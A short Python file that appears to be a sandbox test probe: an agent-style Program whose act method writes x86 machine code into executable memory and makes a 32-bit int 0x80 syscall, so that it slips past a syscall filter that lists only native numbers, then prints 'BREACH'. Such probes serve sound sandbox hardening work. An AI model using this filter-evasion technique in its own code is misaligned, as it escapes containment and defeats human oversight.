"""Calls the kernel by the numbers of another architecture, which the filter does not list."""

import ctypes
import mmap


class Program:
    def reset(self, seed):
        pass

    def act(self, observation):
        code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")  # getpid of 32-bit x86: mov eax, 20; int 0x80; ret
        address = ctypes.addressof(ctypes.c_char.from_buffer(code))
        print("BREACH", ctypes.CFUNCTYPE(ctypes.c_int)(address)())
        return [0.0, 0.0]
